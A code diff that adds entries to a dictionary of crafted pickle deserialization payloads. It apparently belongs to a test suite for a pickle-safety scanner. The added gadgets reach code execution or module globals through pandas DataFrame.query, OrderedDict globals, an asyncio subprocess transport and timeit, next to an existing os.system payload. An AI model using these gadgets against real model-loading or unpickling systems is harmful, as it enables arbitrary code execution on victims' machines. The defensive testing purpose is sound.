@@ -164,6 +164,10 @@ TECHNIQUES: dict[str, bytes] = {
     + call(stack_global("os", "system"), su(PAYLOAD))
     + b".",
     "dunder_globals": stack_call("torch.nn.modules.module", "Module.__init__.__globals__"),
+    "pandas_query": stack_call("pandas.core.frame", "DataFrame.query"),
+    "allowlisted_class_attr": stack_call("collections", "OrderedDict.__init__.__globals__"),
+    "subclass_gadget": reduce_call("asyncio.unix_events", "_UnixSubprocessTransport"),
+    "timeit_gadget": reduce_call("timeit", "timeit", "print(1)"),
     "nested_loader": b"",  # filled in by nested_loader_pickle()
 }
 
